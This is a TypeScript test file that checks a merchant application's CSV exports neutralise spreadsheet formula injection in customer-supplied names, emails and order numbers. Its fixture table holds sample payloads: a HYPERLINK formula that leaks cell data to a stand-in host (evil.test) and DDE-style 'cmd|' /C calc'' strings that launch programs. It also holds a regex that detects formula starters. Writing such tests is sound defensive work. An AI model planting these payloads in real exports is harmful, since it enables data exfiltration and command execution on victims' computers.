/**
 * CSV exports cannot run formulas in the merchant's spreadsheet: a text cell a customer
 * controls that starts with =, +, -, @ (or their full-width forms), a tab or a carriage return is
 * written with a leading quote, and so is such a start after any separator a spreadsheet may
 * split on (a semicolon in French and German ones); NUL characters are dropped — through the
 * whole export, streamed or as a job's file — while amounts, negative ones included, stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runPendingJobs } from "../../src/jobs/runner.ts";
import { insertBalanceTransactions } from "../../src/ledger/rollups.ts";
import { insertTestAccount } from "../../src/testing/fixtures.ts";
import {
	type Actor,
	createTestApp,
	TEST_ACCOUNT,
	TEST_NOW,
	type TestApp,
} from "../../src/testing/test-app.ts";
import { insertDispute, insertPayment } from "../support/charge-fixtures.ts";
import { BASE, onPostgres } from "../support/invariants.ts";
import { ledgerRow } from "../support/payout-fixtures.ts";

/** What a customer typed, and the cell a spreadsheet must receive: text, never a formula. */
const WRITTEN: readonly (readonly [string, string])[] = [
	['=HYPERLINK("http://evil.test/?"&A1,"Click")', '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'],
	["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
	["-2+3", "'-2+3"],
	["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
	// A tab or carriage return starts a cell of its own where a spreadsheet splits on it.
	["\t=1+1", "'\t'=1+1"],
	["\r=1+1", "'\r'=1+1"],
	// After a semicolon, which French and German spreadsheets split on.
	["Jo;=1+2", "Jo;'=1+2"],
	// Full-width starters, which some spreadsheets read as = + - @.
	["\uFF1D1+2", "'\uFF1D1+2"],
	["\uFF20SUM(A1)", "'\uFF20SUM(A1)"],
	// A NUL would cut the cell short in a spreadsheet. Requests may not carry one and PostgreSQL
	// cannot store one, but a SQLite store written by other means could hold it.
	...(onPostgres() ? [] : ([["Jo\u0000=1", "Jo=1"]] as const)),
];
const FORMULAS = WRITTEN.map(([typed]) => typed);
/** Where a spreadsheet may start a cell: the text's start, and after any separator it splits on. */
const CELL_STARTS = /(?:^|[,;\t|\r\n])[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const now = TEST_NOW.getTime() / 1000;
let t: TestApp;
let manager: Actor;

beforeAll(async () => {
	t = await createTestApp({ seed: async (db) => void (await insertTestAccount(db.kysely, TEST_ACCOUNT)) });
	manager = await t.actor("shop_manager");
	await insertBalanceTransactions(
		t.db.kysely,
		FORMULAS.map((formula, index) =>
			ledgerRow({
				customer_name: formula,
				customer_email: `${formula}@example.com`,
				order_number: formula,
				net: -1250,
				amount: -1250,
				created: now - 3600 * (index + 1),
				available_on: now,
			}),
		),
	);
	for (const formula of FORMULAS) {
		const payment = await insertPayment(t.db.kysely, { created: now - 86_400 });
		await insertDispute(t.db.kysely, payment, "needs_response", { customer_name: formula });
	}
});
afterAll(async () => t.close());

/** RFC 4180 records of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = "";
	let quoted = false;
	const body = text.replace(/^\uFEFF/, "");
	for (let i = 0; i < body.length; i++) {
		const c = body[i];
		if (quoted) {
			if (c === '"' && body[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (c === '"') quoted = false;
			else cell += c;
		} else if (c === '"') quoted = true;
		else if (c === ",") {
			row.push(cell);
			cell = "";
		} else if (c === "\r" && body[i + 1] === "\n") {
			row.push(cell);
			rows.push(row);
			row = [];
			cell = "";
			i++;
		} else cell += c;
	}
	return rows;
}

/** Every cell of a column, by its heading. */
function column(csv: string, header: string): string[] {
	const [head = [], ...records] = parseCsv(csv);
	const index = head.indexOf(header);
	expect(index, `${header} in ${head.join("|")}`).toBeGreaterThanOrEqual(0);
	return records.map((record) => record[index] ?? "");
}

/** No cell a spreadsheet would evaluate: each formula arrives as text, with its leading quotes. */
function expectNeutralised(cells: string[]): void {
	expect(cells.length).toBeGreaterThanOrEqual(FORMULAS.length);
	for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(CELL_STARTS);
	for (const [typed, written] of WRITTEN) expect(cells, JSON.stringify(typed)).toContain(written);
}

const download = (path: string) =>
	t.app.inject({ method: "GET", url: `${BASE}${path}`, headers: manager.headers }).then((response) => {
		expect(response.statusCode).toBe(200);
		return response.body;
	});

describe("exports neutralise formulas in customer-controlled cells", () => {
	it("in the streamed transactions export, while negative amounts stay numbers", async () => {
		const csv = await download("/transactions/download");
		expectNeutralised(column(csv, "Customer name"));
		expectNeutralised(column(csv, "Order #"));
		for (const cell of column(csv, "Customer email")) expect(cell).not.toMatch(CELL_STARTS);
		expect(column(csv, "Net")).toContain("-12.50");
	});

	it("in the disputes export", async () => {
		expectNeutralised(column(await download("/disputes/download"), "Customer"));
	});

	it("in the file an export job writes", async () => {
		const requested = await t.app.inject({
			method: "POST",
			url: `${BASE}/transactions/download`,
			headers: { ...manager.headers, "content-type": "application/json" },
			payload: {},
		});
		await runPendingJobs(
			{ db: t.db, clock: t.clock, dataDir: t.dataDir, publicUrl: "http://localhost" },
			"csv-test",
		);
		const csv = await download(`/transactions/download/${requested.json().export_id}/file`);
		expectNeutralised(column(csv, "Customer name"));
	});
});
